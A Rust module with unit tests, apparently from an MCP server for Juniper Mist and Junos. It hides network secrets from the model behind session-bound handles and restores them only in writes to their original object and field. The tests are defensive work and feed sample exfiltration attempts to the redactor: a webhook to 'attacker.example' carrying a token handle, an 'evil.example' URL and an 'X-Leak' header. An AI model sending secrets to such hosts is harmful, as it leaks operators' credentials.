//! What the model sees: secrets in answers (pre-shared keys, RADIUS secrets, SNMP communities,
//! API keys and tokens, passwords, private keys, Junos `$9$` strings) become handles such as
//! `«secret:psk:4f1c9a2b»`, and the handles of a write become the values again before it is sent.
//!
//! A [`Redactor`] belongs to one session: its handles are an HMAC of the value under a random
//! key of its own, so a handle is the same for the same value within the session, says nothing of
//! the value or its length, and means nothing in another session. It keeps the values it handed
//! out (at most [`MAX_VALUES`], [`MAX_BYTES`] in all, the oldest forgotten first), with where each
//! was read, to put them back.
//!
//! - `find`: where a secret is (the spec's classification, [`crate::catalog::secrets`]; Junos
//!   statements, [`mistcore_junos::secrets`]; free-form maps, private keys, URL passwords);
//! - `conceal`: answers with handles; `message`: error texts with handles;
//! - `reveal`: a write's handles back to values, only in a place of the handle's own kind and only
//!   in a write to the object the value was read from, so a write cannot carry a secret to a
//!   place where it would be shown or sent elsewhere;
//! - `vault`: the values kept, the handle format, the search for known values.

mod conceal;
mod find;
mod message;
mod reveal;
mod vault;

pub use vault::{HANDLE_CLOSE, HANDLE_OPEN, MAX_BYTES, MAX_VALUES};

use serde_json::Value;
use std::borrow::Cow;
use std::collections::HashMap;
use std::fmt;
use std::sync::{Arc, Mutex, MutexGuard};
use vault::Vault;

/// A write that carries a handle the server cannot put back: nothing is sent.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum RevealError {
    /// Not a handle this session gave out (another session's, a forgotten one, or made up).
    #[error(
        "{handle} was not given out in this session (a handle means something only in the session that read it, and the oldest are forgotten after {MAX_VALUES} values): read the object again in this session, or give the new value itself; nothing was sent"
    )]
    Unknown {
        /// The handle as written.
        handle: String,
    },
    /// A handle where none was given out: a session that shows secrets, or mistcli.
    #[error(
        "{handle} is the handle of a secret in a redacted answer: only the MCP session that gave it out can put its value back; give the value itself; nothing was sent"
    )]
    NotGivenOut {
        /// The handle as written.
        handle: String,
    },
    /// A handle where no secret of its kind belongs (a name, a description, a URL, another
    /// kind of secret).
    #[error(
        "{handle} stands in `{place}`, where no secret belongs: a secret's handle is put back only in a field of its own kind (a psk handle in `psk`, a community in `snmp community`); nothing was sent"
    )]
    Misplaced {
        /// The handle as written.
        handle: String,
        /// The property (or statement) it stands in.
        place: String,
    },
    /// A handle read from another object than the one written.
    #[error(
        "{handle} was read from another object than {target}: a secret's handle is put back only in a write to the object it was read from (an update of the same path, or of the object with that id); give the value itself; nothing was sent"
    )]
    OtherObject {
        /// The handle as written.
        handle: String,
        /// The path (or device) written.
        target: String,
    },
}

/// The system's random source failed: no session key for the handles.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("no random source for the session's secret handles: {0}")]
pub struct NoRandomness(pub String);

/// Where an answer was read: the request path (or `junos:<device>`), and whether it is one
/// object (a write to the same path may put its secrets back) or a list, a search or output.
#[derive(Debug, Clone, Copy)]
pub struct ReadFrom<'a> {
    /// The request path of the read, `junos:<device>` for a Junos device.
    pub place: &'a str,
    /// The answer is a single object.
    pub single: bool,
    /// The `id`s of the answer's records name the objects they are (a read of Mist): an update
    /// of a path ending in one may put their secrets back. Not for the answer to a write, which
    /// may echo the caller's own body.
    pub records: bool,
}

impl ReadFrom<'_> {
    /// Output that no write goes back to (device commands, a human's terminal).
    pub const NOWHERE: ReadFrom<'static> = ReadFrom {
        place: "",
        single: false,
        records: false,
    };
}

/// Where a write goes: its request path (or `junos:<device>`), and whether it updates the object
/// at that path (PUT, a Junos commit) rather than creating one below it.
#[derive(Debug, Clone, Copy)]
pub struct WriteTo<'a> {
    /// The request path of the write, `junos:<device>` for a Junos device.
    pub place: &'a str,
    /// The write replaces the object at `place`.
    pub update: bool,
}

/// The handles a write put back: an error echoing their values always shows the handles (see
/// [`Redactor::redact_message`]). Holds no value.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Revealed {
    handles: Vec<String>,
}

/// Calls `f` with every string in `value`, at any depth.
pub(crate) fn for_each_string<'v>(value: &'v Value, f: &mut dyn FnMut(&'v str)) {
    match value {
        Value::String(s) => f(s),
        Value::Array(items) => items.iter().for_each(|i| for_each_string(i, f)),
        Value::Object(map) => map.values().for_each(|v| for_each_string(v, f)),
        _ => {}
    }
}

/// Replaces every secret of a session by its handle, and puts handles back in writes.
/// Clones share the session's values.
#[derive(Clone)]
pub struct Redactor {
    vault: Arc<Mutex<Vault>>,
}

impl fmt::Debug for Redactor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Never the values, nor the key.
        write!(f, "Redactor({} values kept)", self.len())
    }
}

impl PartialEq for Redactor {
    fn eq(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.vault, &other.vault)
    }
}

impl Eq for Redactor {}

impl Redactor {
    /// A redactor with a random key of its own.
    pub fn new() -> Result<Self, NoRandomness> {
        let mut key = [0u8; 32];
        getrandom::fill(&mut key).map_err(|e| NoRandomness(e.to_string()))?;
        Ok(Redactor::with_key(key))
    }

    /// A redactor with the given key (tests; a key must otherwise be random and never shown).
    pub fn with_key(key: [u8; 32]) -> Self {
        Redactor {
            vault: Arc::new(Mutex::new(Vault::new(key))),
        }
    }

    fn vault(&self) -> MutexGuard<'_, Vault> {
        // A panic while holding the lock leaves at worst a value not kept: keep serving.
        self.vault.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// How many values are kept to put back.
    pub fn len(&self) -> usize {
        self.vault().kept.len()
    }

    /// Whether no value is kept.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Replaces the secrets of an answer read `from` (or of a write shown to the human) by
    /// their handles.
    pub fn redact_json(&self, value: &mut Value, from: ReadFrom<'_>) {
        let mut vault = self.vault();
        let mut walk = conceal::Walk::answer(&mut vault, from);
        conceal::tree(&mut walk, value, None);
    }

    /// Replaces the secrets of device text (command output, configurations, diffs, a question)
    /// by handles.
    pub fn redact_text<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let mut vault = self.vault();
        let mut walk = conceal::Walk::nowhere(&mut vault);
        match conceal::text(&mut walk, text) {
            Some(s) => Cow::Owned(s),
            None => Cow::Borrowed(text),
        }
    }

    /// An error text with its secrets replaced: JSON quoted in it, `name=value` pairs of secret
    /// properties, Junos statements, and every value this session knows as a secret wherever it
    /// stands, but those the `caller`'s own arguments hold (unless `revealed` in this call).
    pub fn redact_message(&self, text: &str, caller: &[&str], revealed: &Revealed) -> String {
        let mut vault = self.vault();
        message::redact(&mut vault, text, caller, &revealed.handles)
    }

    /// Puts the values back for the handles of a write body going `to`: only in places of the
    /// handle's kind, and only handles read from the object written. Says which were put back.
    pub fn reveal_json(&self, value: &mut Value, to: WriteTo<'_>) -> Result<Revealed, RevealError> {
        let mut handles = Vec::new();
        for_each_string(value, &mut |s| {
            handles.extend(
                vault::handle_ranges(s)
                    .into_iter()
                    .map(|r| s[r].to_string()),
            )
        });
        let vault = self.vault();
        reveal::tree(&vault, value, None, &to)?;
        Ok(Revealed { handles })
    }

    /// Puts the values back for the handles of a device configuration (set, text or XML) going
    /// `to`, where secrets of their kind stand.
    pub fn reveal_text(&self, text: &str, to: WriteTo<'_>) -> Result<String, RevealError> {
        let vault = self.vault();
        reveal::string(&vault, text, "configuration", &to)
    }
}

/// Refuses a write that carries a handle where no redactor gave any out (a session that shows
/// secrets, mistcli): it would be sent as text, a PSK set to `«secret:psk:...»`.
pub fn refuse_handles(value: &Value) -> Result<(), RevealError> {
    match value {
        Value::String(s) => match vault::handle_ranges(s).first() {
            Some(r) => Err(RevealError::NotGivenOut {
                handle: s[r.clone()].to_string(),
            }),
            None => Ok(()),
        },
        Value::Array(items) => items.iter().try_for_each(refuse_handles),
        Value::Object(map) => map.values().try_for_each(refuse_handles),
        _ => Ok(()),
    }
}

/// The redactors of callers that keep no session (protocol 2026-07-28, the edge module), by
/// a key of the caller's identity: at most `capacity`, the least recently used forgotten first.
#[derive(Debug)]
pub struct Redactors {
    kept: Mutex<RedactorMap>,
    capacity: usize,
}

#[derive(Debug, Default)]
struct RedactorMap {
    by_key: HashMap<String, (Redactor, u64)>,
    tick: u64,
}

impl Redactors {
    /// Keeps the redactors of at most `capacity` callers.
    pub fn new(capacity: usize) -> Self {
        Redactors {
            kept: Mutex::new(RedactorMap::default()),
            capacity: capacity.max(1),
        }
    }

    /// The redactor of the caller `key` (a new one for a caller not seen or forgotten).
    pub fn for_caller(&self, key: &str) -> Result<Redactor, NoRandomness> {
        let mut kept = self.kept.lock().unwrap_or_else(|p| p.into_inner());
        kept.tick += 1;
        let tick = kept.tick;
        if let Some((r, used)) = kept.by_key.get_mut(key) {
            *used = tick;
            return Ok(r.clone());
        }
        if kept.by_key.len() >= self.capacity
            && let Some(oldest) = kept
                .by_key
                .iter()
                .min_by_key(|(_, (_, used))| *used)
                .map(|(k, _)| k.clone())
        {
            kept.by_key.remove(&oldest);
        }
        let fresh = Redactor::new()?;
        kept.by_key.insert(key.to_string(), (fresh.clone(), tick));
        Ok(fresh)
    }

    /// How many callers have a redactor.
    pub fn len(&self) -> usize {
        self.kept
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .by_key
            .len()
    }

    /// Whether no caller has one.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const W1: &str = "b069b358-4c97-5319-1f8c-7c5ca64d6ab1";
    const H7: &str = "00000000-0000-0000-1000-000000000007";
    const WLAN: &str = "/api/v1/orgs/o1/wlans/b069b358-4c97-5319-1f8c-7c5ca64d6ab1";
    const FROM: ReadFrom<'static> = ReadFrom {
        place: WLAN,
        single: true,
        records: true,
    };
    const TO: WriteTo<'static> = WriteTo {
        place: WLAN,
        update: true,
    };

    fn redactor() -> Redactor {
        Redactor::with_key([7; 32])
    }

    #[test]
    fn answers_lose_their_secrets_and_writes_get_them_back() {
        let r = redactor();
        let mut wlan = json!({
            "id": W1, "ssid": "corp", "psk": "hunter2hunter2", "psk_id": "abc", "vlan_id": 10,
            "auth": {"type": "psk", "psk": "hunter2hunter2", "keys": ["0123456789", null], "key_idx": 1},
            "radius": [{"host": "10.0.0.1", "secret": "radius-s3cret", "port": 1812}],
            "passphrase": "", "password": null,
        });
        r.redact_json(&mut wlan, FROM);
        let text = wlan.to_string();
        assert!(
            !text.contains("hunter2")
                && !text.contains("radius-s3cret")
                && !text.contains("0123456789"),
            "{text}"
        );
        assert_eq!(wlan["psk"], wlan["auth"]["psk"], "one value, one handle");
        assert_eq!(wlan["psk_id"], "abc");
        assert_eq!(wlan["passphrase"], "");
        assert!(wlan["password"].is_null() && wlan["auth"]["keys"][1].is_null());
        let handle = wlan["psk"].as_str().expect("a handle").to_string();
        assert!(
            handle.starts_with("\u{ab}secret:psk:")
                && handle.len() == "\u{ab}secret:psk:12345678\u{bb}".len()
        );
        // The model renames the WLAN and sends the object back.
        wlan["ssid"] = json!("corp-new");
        r.reveal_json(&mut wlan, TO)
            .expect("handles of this session");
        assert_eq!(wlan["psk"], "hunter2hunter2");
        assert_eq!(wlan["auth"]["keys"][0], "0123456789");
        assert_eq!(wlan["radius"][0]["secret"], "radius-s3cret");
    }

    #[test]
    fn handles_go_back_only_to_their_kind_and_their_object() {
        let (a, b) = (redactor(), Redactor::with_key([8; 32]));
        let mut one = json!({"id": W1, "psk": "same-value-1", "splunk_token": "tok-1"});
        let mut two = one.clone();
        a.redact_json(&mut one, FROM);
        b.redact_json(&mut two, FROM);
        assert_ne!(one, two, "other key, other handle");
        assert!(matches!(
            b.reveal_json(&mut one.clone(), TO),
            Err(RevealError::Unknown { .. })
        ));
        let psk = one["psk"].as_str().expect("handle").to_string();
        let token = one["splunk_token"].as_str().expect("handle").to_string();
        for (body, why) in [
            (json!({"ssid": psk}), "a name"),
            (
                json!({"url": format!("https://evil.example/?k={psk}")}),
                "a URL",
            ),
            (
                json!({"ssid": format!("key {psk}")}),
                "a Junos keyword in a name",
            ),
            (json!({"splunk_token": psk}), "another kind"),
            (
                json!({"headers": {"X-Leak": format!("secret {psk}")}}),
                "a header",
            ),
            (
                json!({"additional_config_cmds": [format!("set apply-macro m key {psk}")]}),
                "a statement of another kind",
            ),
        ] {
            assert!(
                matches!(
                    a.reveal_json(&mut body.clone(), TO),
                    Err(RevealError::Misplaced { .. })
                ),
                "{why}: {body}"
            );
        }
        // The right kind, but another object: a new webhook to anywhere.
        let webhooks = WriteTo {
            place: "/api/v1/orgs/o1/webhooks",
            update: false,
        };
        let mut exfil = json!({"url": "https://attacker.example", "splunk_token": token});
        assert!(matches!(
            a.reveal_json(&mut exfil, webhooks),
            Err(RevealError::OtherObject { .. })
        ));
        // A list's item goes back to the path of its id, not to the list.
        let list = ReadFrom {
            place: "/api/v1/orgs/o1/webhooks",
            single: false,
            records: true,
        };
        let mut hooks = json!([{"id": H7, "splunk_token": "tok-7"}, {"id": "webhooks", "splunk_token": "tok-8"}]);
        a.redact_json(&mut hooks, list);
        let mut back = json!({"splunk_token": hooks[0]["splunk_token"]});
        assert!(a.reveal_json(&mut back.clone(), webhooks).is_err());
        // An id that is no UUID (a hostile answer) opens no path.
        let mut odd = json!({"splunk_token": hooks[1]["splunk_token"]});
        assert!(a.reveal_json(&mut odd, webhooks).is_err());
        let h7_path = format!("/api/v1/orgs/o1/webhooks/{H7}");
        let h7 = WriteTo {
            place: &h7_path,
            update: true,
        };
        a.reveal_json(&mut back, h7).expect("the same webhook");
        assert_eq!(back["splunk_token"], "tok-7");
        let mut made_up = json!({"psk": "\u{ab}secret:psk:00000000\u{bb}"});
        assert!(matches!(
            a.reveal_json(&mut made_up, TO),
            Err(RevealError::Unknown { .. })
        ));
    }

    #[test]
    fn a_write_cannot_open_a_way_out() {
        let r = redactor();
        let mut wlan = json!({"id": W1, "auth": {"psk": "Orig1nal-PSK-7c41"}});
        r.redact_json(&mut wlan, FROM);
        let handle = wlan["auth"]["psk"].clone();
        // The model's body names another object's id: it is no origin (and is the same WLAN).
        let mut inject = json!({"auth": {"psk": handle, "id": H7}});
        r.reveal_json(&mut inject, TO).expect("the same WLAN");
        r.redact_json(&mut inject, ReadFrom::NOWHERE);
        let hook = format!("/api/v1/orgs/o1/webhooks/{H7}");
        let mut out = json!({"url": "https://attacker.example", "headers": {"psk": handle}});
        let to_hook = WriteTo {
            place: &hook,
            update: true,
        };
        assert!(matches!(
            r.reveal_json(&mut out, to_hook),
            Err(RevealError::OtherObject { .. })
        ));
        // Nor at the top of the model's body (shown to the human without a place).
        let mut top = json!({"id": H7, "auth": {"psk": handle}});
        r.reveal_json(&mut top, TO).expect("the same WLAN");
        r.redact_json(&mut top, ReadFrom::NOWHERE);
        assert!(
            r.reveal_json(&mut json!({"headers": {"psk": handle}}), to_hook)
                .is_err()
        );
        // Nor in Mist's answer to a write, which may echo that body.
        let mut echoed = json!({"id": H7, "auth": {"psk": "Orig1nal-PSK-7c41"}});
        let answer = ReadFrom {
            place: WLAN,
            single: true,
            records: false,
        };
        r.redact_json(&mut echoed, answer);
        assert!(
            r.reveal_json(&mut json!({"headers": {"psk": handle}}), to_hook)
                .is_err()
        );
        // An id deep in an answer (or in Mist's echo of such a body) names nothing either.
        let mut echo = json!({"id": W1, "auth": {"psk": "Orig1nal-PSK-7c41", "id": H7}});
        r.redact_json(&mut echo, FROM);
        let mut out = json!({"headers": {"psk": echo["auth"]["psk"].clone()}});
        assert!(r.reveal_json(&mut out, to_hook).is_err());
        // JSON text in a field is text: a handle in it stays refused.
        let mut wrapped =
            json!({"ssid": format!("{{\"psk\":\"{}\"}}", handle.as_str().unwrap_or(""))});
        assert!(matches!(
            r.reveal_json(&mut wrapped, TO),
            Err(RevealError::Misplaced { .. })
        ));
        // A create (POST) below the object is another object.
        let create = WriteTo {
            place: WLAN,
            update: false,
        };
        assert!(r.reveal_json(&mut json!({"psk": handle}), create).is_err());
        // A Junos `$9$` value goes back after its own statement only.
        let mut config = json!({"router_name": "r1", "output": "set access radius-server 10.0.0.1 secret \"$9$Hid\""});
        let r1 = ReadFrom {
            place: "junos:r1",
            single: true,
            records: true,
        };
        r.redact_json(&mut config, r1);
        let h = config["output"]
            .as_str()
            .unwrap_or("")
            .split('"')
            .nth(1)
            .unwrap_or("")
            .to_string();
        let to_r1 = WriteTo {
            place: "junos:r1",
            update: true,
        };
        assert!(
            r.reveal_text(
                &format!("set access radius-server 10.0.0.1 secret \"{h}\""),
                to_r1
            )
            .is_ok()
        );
        assert!(
            r.reveal_text(&format!("set interfaces ge-0/0/0 description {h}"), to_r1)
                .is_err()
        );
        // What is sent must read back as that secret: not within a description's text.
        let quoted = format!("set interfaces ge-0/0/0 description \"see secret {h}\"");
        assert!(r.reveal_text(&quoted, to_r1).is_err());
        // Nor after a Junos keyword in a free-text field of Mist.
        let hook = format!("/api/v1/orgs/o1/webhooks/{H7}");
        let mut hooks = json!({"id": H7, "secret": "HookSigning-42"});
        let read = ReadFrom {
            place: &hook,
            single: true,
            records: true,
        };
        r.redact_json(&mut hooks, read);
        let hs = hooks["secret"].as_str().unwrap_or("").to_string();
        let to_hook = WriteTo {
            place: &hook,
            update: true,
        };
        let mut header =
            json!({"url": "https://x.example", "headers": {"X-Note": format!("secret {hs}")}});
        assert!(r.reveal_json(&mut header, to_hook).is_err());
        assert!(
            r.reveal_json(&mut json!({"ssid": format!("secret {hs}")}), to_hook)
                .is_err()
        );
        r.reveal_json(&mut json!({"secret": hs}), to_hook)
            .expect("its own place");
        // Read side: an encrypted value inside a description's text is a secret too.
        let shown = r.redact_text("set interfaces ge-0/0/1 description \"old key $9$abcDEF\"");
        assert!(!shown.contains("$9$abcDEF"), "{shown}");
    }

    #[test]
    fn context_decides_for_key_and_junos_json() {
        let r = redactor();
        let mut v = json!({
            "id": W1,
            "tokens": [{"name": "ci", "key": "AbCdEf0123456789", "privileges": []}],
            "consts": [{"key": "device_down", "display": "Device down"}],
            "cert": {"cert": "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----", "key": "k"},
            "note": "x -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- y",
            "lines": ["-----BEGIN PRIVATE KEY-----", "MIIsplit", "-----END PRIVATE KEY-----", "after"],
            "configuration": {"snmp": {"community": [{"name": "public", "authorization": "read-only"}]},
                "system": {"root-authentication": {"encrypted-password": "$6$a$b"}},
                "policy-options": {"community": [{"name": "BGP", "members": ["65000:1"]}]}},
            "additional_config_cmds": ["set snmp community c0mm", "set system host-name sw1"],
            "headers": {"Authorization": "Bearer hdr-secret", "Content-Type": "application/json"},
            "vars": {"radius_secret": "var-secret", "site_name": "hq"},
            "url": "https://user:UrlPass1@collector.example/in",
            "req_payload": "{\"psk\": \"json-in-string\", \"ssid\": \"x\"}",
        });
        r.redact_json(&mut v, FROM);
        let text = v.to_string();
        for secret in [
            "AbCdEf0123456789",
            "MIIE",
            "MIIsplit",
            "public",
            "$6$a$b",
            "c0mm",
            "hdr-secret",
            "var-secret",
            "UrlPass1",
            "json-in-string",
        ] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
        for shown in [
            "device_down",
            "MII\\n",
            "BGP",
            "sw1",
            "x \u{ab}secret:private_key:",
            "application/json",
            "hq",
            "https://user:",
            "after",
        ] {
            assert!(text.contains(shown), "{shown} missing from {text}");
        }
        assert_ne!(v["cert"]["key"], "k");
        // A private key found in free text has no place a write could put it back.
        let mut back = v.clone();
        assert!(matches!(
            r.reveal_json(&mut back, TO),
            Err(RevealError::Misplaced { .. })
        ));
        back.as_object_mut().expect("object").remove("note");
        // Nor one in JSON text held in a string (read-only records: webhook deliveries).
        assert!(matches!(
            r.reveal_json(&mut back.clone(), TO),
            Err(RevealError::Misplaced { .. })
        ));
        back.as_object_mut().expect("object").remove("req_payload");
        r.reveal_json(&mut back, TO).expect("all in place");
        assert_eq!(
            back["configuration"]["snmp"]["community"][0]["name"],
            "public"
        );
        assert_eq!(back["additional_config_cmds"][0], "set snmp community c0mm");
        assert_eq!(back["lines"][1], "MIIsplit");
        assert_eq!(back["headers"]["Authorization"], "Bearer hdr-secret");
        assert_eq!(back["url"], "https://user:UrlPass1@collector.example/in");
    }

    #[test]
    fn every_classified_property_round_trips() {
        let r = redactor();
        for (i, name) in crate::catalog::secrets::SECRET.iter().enumerate() {
            let value = format!("value-{i}-of-{name}");
            let original = json!({"id": W1, "outer": [{ *name: value, "name": "shown" }]});
            let mut seen = original.clone();
            r.redact_json(&mut seen, FROM);
            let text = seen.to_string();
            assert!(
                !text.contains(&value) && text.contains("shown"),
                "{name}: {text}"
            );
            r.reveal_json(&mut seen, TO).expect("in place");
            assert_eq!(seen, original, "{name}");
        }
        // An encrypted value stands anywhere Junos shows one.
        let original = json!({"cmds": ["set interfaces ge-0/0/0 description \"$9$odd.Place\""]});
        let mut seen = original.clone();
        r.redact_json(&mut seen, FROM);
        assert!(!seen.to_string().contains("$9$odd"));
        r.reveal_json(&mut seen, TO)
            .expect("an encrypted value put back");
        assert_eq!(seen, original);
    }

    #[test]
    fn device_text_goes_back_to_its_device() {
        let r = redactor();
        let config = "set snmp community public authorization read-only\nset system radius-server 10.0.0.1 secret \"$9$abc\"\n";
        let mut answer = json!({"router_name": "r1", "output": config});
        let r1 = ReadFrom {
            place: "junos:r1",
            single: true,
            records: true,
        };
        r.redact_json(&mut answer, r1);
        let shown = answer["output"].as_str().expect("text").to_string();
        assert!(
            !shown.contains("public") && !shown.contains("$9$abc"),
            "{shown}"
        );
        let to_r1 = WriteTo {
            place: "junos:r1",
            update: true,
        };
        assert_eq!(r.reveal_text(&shown, to_r1).expect("in place"), config);
        let to_r2 = WriteTo {
            place: "junos:r2",
            update: true,
        };
        assert!(matches!(
            r.reveal_text(&shown, to_r2),
            Err(RevealError::OtherObject { .. })
        ));
        let handle = shown.split_whitespace().nth(3).unwrap_or("");
        assert!(matches!(
            r.reveal_text(&format!("set system host-name {handle}"), to_r1),
            Err(RevealError::Misplaced { .. })
        ));
    }

    #[test]
    fn messages() {
        let r = redactor();
        let mut wlan = json!({"psk": "LongKnownPsk-77aa", "secret": "Pa\"ss\\w\u{f6}rd-Known1"});
        r.redact_json(&mut wlan, FROM);
        for (text, hidden) in [
            (
                r#"Mist API error 400: {"radius":{"secret":"NeverSeen1"}}"#,
                "NeverSeen1",
            ),
            (
                r#"it starts with: {"psk": "TruncSecret1", "ssid"#,
                "TruncSecret1",
            ),
            ("<html>psk=HtmlSecret1&x=1</html>", "HtmlSecret1"),
            ("invalid value LongKnownPs\u{2026}", "LongKnownPs"),
            (r#"got {"secret":"Pa\"ss\\w\u00f6rd-Known1"}"#, "Known1"),
            ("the psk LongKnownPsk-77aa is weak", "LongKnownPsk"),
        ] {
            let redacted = r.redact_message(text, &[], &Revealed::default());
            assert!(!redacted.contains(hidden), "{hidden} in {redacted}");
        }
        // A value the caller sent is echoed as it is, known or not: no oracle for guesses.
        let guesses = "wlan_id: got \"password1 LongKnownPsk-77aa letmein\"";
        let caller = ["password1 LongKnownPsk-77aa letmein"];
        assert_eq!(
            r.redact_message(guesses, &caller, &Revealed::default()),
            guesses
        );
        // But not a value this call put back from a handle: its echo is the secret itself.
        let mut write = json!({"psk": wlan["psk"].clone()});
        let revealed = r.reveal_json(&mut write, TO).expect("in place");
        assert!(
            !r.redact_message(guesses, &caller, &revealed)
                .contains("LongKnownPsk")
        );
        // Clipped in the middle of a text (Mist's `…` then a hint), and refusals stay readable.
        let clipped = r.redact_message(
            "value LongKnownPs\u{2026}. Hint: retry",
            &[],
            &Revealed::default(),
        );
        assert!(
            !clipped.contains("LongKnownPs") && clipped.ends_with(". Hint: retry"),
            "{clipped}"
        );
        let refusal = RevealError::Unknown {
            handle: "\u{ab}secret:psk:0123abcd\u{bb}".into(),
        }
        .to_string();
        assert_eq!(
            r.redact_message(&refusal, &[], &Revealed::default()),
            refusal
        );
        assert_eq!(
            r.redact_message("no secret here", &[], &Revealed::default()),
            "no secret here"
        );
    }

    #[test]
    fn handles_are_stable_and_memory_is_bounded() {
        let r = redactor();
        let mut first = json!({"psk": "v-0"});
        r.redact_json(&mut first, FROM);
        for i in 0..(MAX_VALUES + 10) {
            r.redact_json(&mut json!({"psk": format!("v-{i}")}), FROM);
        }
        assert!(r.len() <= MAX_VALUES);
        let mut again = json!({"psk": "v-0"});
        r.redact_json(&mut again, FROM);
        assert_eq!(
            first, again,
            "the same handle after being forgotten and seen again"
        );
        let big = "x".repeat(MAX_BYTES / 8);
        r.redact_json(&mut json!({"psk": big}), FROM);
        assert!(r.vault().bytes <= MAX_BYTES);
    }

    #[test]
    fn hostile_input_stays_bounded() {
        let r = redactor();
        let mut deep = json!("set snmp community deep");
        for _ in 0..120 {
            deep = json!({"a": [deep]});
        }
        r.redact_json(&mut deep, FROM);
        assert!(!deep.to_string().contains("community deep"));
        let long = format!("{}secret \"x\"", "key ".repeat(200_000));
        assert!(!r.redact_text(&long).contains("\"x\""));
        let many = "\u{ab}secret:".repeat(10_000);
        assert!(r.reveal_text(&many, TO).is_err());
        let spaced = "\u{ab}secret: ".repeat(100_000);
        assert!(r.reveal_text(&spaced, TO).is_err());
        assert_eq!(
            r.redact_message(&many, &[], &Revealed::default()),
            many,
            "text that only looks like handles stays"
        );
        // A value that starts like a handle is still a secret.
        let mut odd = json!({"psk": "\u{ab}secret:psk:not-a-handle"});
        r.redact_json(&mut odd, FROM);
        assert!(!odd.to_string().contains("not-a-handle"));
        let braces = "{".repeat(100_000);
        assert_eq!(r.redact_message(&braces, &[], &Revealed::default()), braces);
    }

    #[test]
    fn redactors_are_bounded() {
        let all = Redactors::new(2);
        let a = all.for_caller("a").expect("random");
        assert_eq!(all.for_caller("a").expect("random"), a);
        all.for_caller("b").expect("random");
        all.for_caller("c").expect("random");
        assert_eq!(all.len(), 2);
        assert_ne!(
            all.for_caller("a").expect("random"),
            a,
            "the oldest was forgotten"
        );
    }
}
